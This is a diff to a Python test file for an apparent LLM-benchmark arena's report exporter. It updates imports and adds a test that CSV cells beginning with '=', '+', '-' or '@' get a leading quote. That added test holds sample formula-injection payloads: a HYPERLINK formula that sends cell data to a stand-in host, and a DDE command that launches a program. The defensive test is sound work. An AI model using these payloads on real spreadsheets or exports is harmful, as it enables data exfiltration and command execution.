@@ -7,8 +7,8 @@ import io
 import json
 
 from atom_core.arena import report
-from atom_core.arena.promptsets import parse_prompt_set
-from atom_core.arena.race import ArenaRound, SlotResult, Vote
+from atom_core.arena.promptsets import PromptSetRunSpec, parse_prompt_set
+from atom_core.arena.rounds import ArenaRound, SlotResult, Vote
 
 
 def a_round() -> ArenaRound:
@@ -72,11 +72,12 @@ def test_round_csv_and_json() -> None:
 def test_run_report() -> None:
     pset = parse_prompt_set('[{"prompt": "Capital <of> France?", "contains": "Paris"}, "Hi"]',
                             name="Geo")
-    run = {"id": "r1", "created": 1_700_000_000.0, "set": pset.to_dict(),
+    run = PromptSetRunSpec.from_record({
+        "id": "r1", "created": 1_700_000_000.0, "set": pset.to_dict(),
            "settings": {"repeats": 1, "concurrency": 2, "seed": 42, "temperature": 0.0,
                         "max_tokens": 64, "warmup": True, "shuffle": True},
            "slots": [{"label": "A", "server": "http://s", "model": "a", "target": "a",
-                      "contestant": "a", "options": {"seed": 42}}]}
+                      "contestant": "a", "options": {"seed": 42}}]})
     metrics = {"ttft_s": 0.2, "e2e_s": 1.0, "decode_tps": 30.0, "output_tokens": 20,
                "tokens_source": "usage", "finish_reason": "stop", "itl_p50_s": None,
                "itl_p95_s": None}
@@ -98,3 +99,17 @@ def test_run_report() -> None:
     rows = list(csv.DictReader(io.StringIO(report.run_csv(run, records))))
     assert rows[0]["checks"] == "pass contains “Paris”" and rows[1]["ok"] == "False"
     assert json.loads(report.run_json(run, records))["records"][0]["content"] == "Paris."
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised() -> None:
+    from dataclasses import replace
+
+    rnd = a_round()
+    evil = ("=HYPERLINK(\"http://x.test/?\"&A1)", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)")
+    slots = tuple(replace(s, content=text, model=text)
+                  for s, text in zip(rnd.slots, evil, strict=False))
+    rows = list(csv.DictReader(io.StringIO(report.round_csv(replace(rnd, slots=slots)))))
+    assert [r["content"] for r in rows] == ["'" + t for t in evil[:3]]
+    assert [r["model"] for r in rows] == ["'" + t for t in evil[:3]]
+    assert rows[1]["load_s"] == "2.5" and rows[0]["ttft_s"] == "0.1"  # numbers stay numbers
+    assert rows[1]["quantization"] == "Q4_K_M"
